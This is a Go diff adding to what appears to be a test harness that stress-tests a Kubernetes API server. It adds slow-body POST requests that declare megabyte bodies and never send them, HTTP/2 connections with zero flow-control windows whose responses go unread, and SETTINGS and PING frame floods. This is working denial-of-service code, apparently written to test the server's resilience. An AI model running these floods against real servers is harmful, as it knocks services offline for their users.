@@ -276,14 +276,23 @@ func (s *siege) bodies(ctx context.Context) string {
 	if err == nil {
 		code = large.Code
 	}
+	// Everybody may ask what they may, so these are read on their way.
+	second, _ := s.account("siege", "attacker-with-bodies")
 	var h held
 	defer h.letGo()
-	atOnce(150, 16, func(int) {
-		conn, err := s.secure(7, "http/1.1")
+	atOnce(150, 16, func(i int) {
+		conn, err := s.secure(7+100*(i%2), "http/1.1")
 		if err != nil {
 			return
 		}
-		fmt.Fprintf(conn, "POST /api/v1/namespaces/siege/configmaps HTTP/1.1\r\nHost: kubernetes\r\nContent-Type: application/json\r\nAuthorization: Bearer %s\r\nContent-Length: 1000000\r\n\r\n{", s.token)
+		token, upgrade := s.token, ""
+		if i%2 > 0 {
+			token = second
+		}
+		if i%4 > 1 {
+			upgrade = "Upgrade: x\r\n"
+		}
+		fmt.Fprintf(conn, "POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1\r\nHost: kubernetes\r\nContent-Type: application/json\r\nAuthorization: Bearer %s\r\n%sContent-Length: 1000000\r\n\r\n{", token, upgrade)
 		h.hold(conn)
 	})
 	for range 6 {
@@ -349,4 +358,65 @@ func (s *siege) lists(ctx context.Context) string {
 		}
 	})
 	return fmt.Sprintf("%d whole, %d refused, %d given up after 8 s", whole.Load(), refused.Load(), cut.Load())
+}
+
+// unread sends requests that are refused at once, and takes none of the answers: with
+// windows that are shut, and without reading. Then one cheap frame after the other.
+func (s *siege) unread(ctx context.Context) string {
+	var sent, connections atomic.Int64
+	var h held
+	defer h.letGo()
+	long := strings.Repeat("x", 8000)
+	atOnce(15, 15, func(i int) {
+		c, err := s.h2(13 + i%3)
+		if err != nil {
+			return
+		}
+		h.hold(c.conn)
+		connections.Add(1)
+		if i%2 == 0 {
+			_ = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		}
+		_ = c.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
+		for range 800 {
+			if ctx.Err() != nil || c.post(long) != nil {
+				return
+			}
+			sent.Add(1)
+		}
+	})
+	entries := make([]http2.Setting, 0, 2000)
+	for i := range cap(entries) {
+		entries = append(entries, http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
+	}
+	atOnce(60, 16, func(i int) {
+		c, err := s.h2(16 + i%3)
+		if err != nil {
+			return
+		}
+		h.hold(c.conn)
+		connections.Add(1)
+		_ = c.conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
+		for n := 0; err == nil && n < 20_000 && ctx.Err() == nil; n++ {
+			if i%4 == 0 {
+				err = c.framer.WriteSettings(entries...)
+			} else {
+				err = c.framer.WritePing(false, [8]byte{})
+			}
+		}
+	})
+	time.Sleep(time.Second)
+	return fmt.Sprintf("%d sent on %d connections", sent.Load(), connections.Load())
+}
+
+// post begins a POST with a body that is larger than any may be, and that never
+// comes.
+func (c *h2) post(long string) error {
+	c.block.Reset()
+	for _, f := range []field{{":method", "POST"}, {":scheme", "https"}, {":authority", "kubernetes"}, {":path", "/api/v1/namespaces/siege/configmaps"}, {"content-length", "9000000"}, {"x-long", long}} {
+		_ = c.encoder.WriteField(hpack.HeaderField{Name: f.name, Value: f.value})
+	}
+	id := c.next
+	c.next += 2
+	return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block.Bytes(), EndHeaders: true})
 }
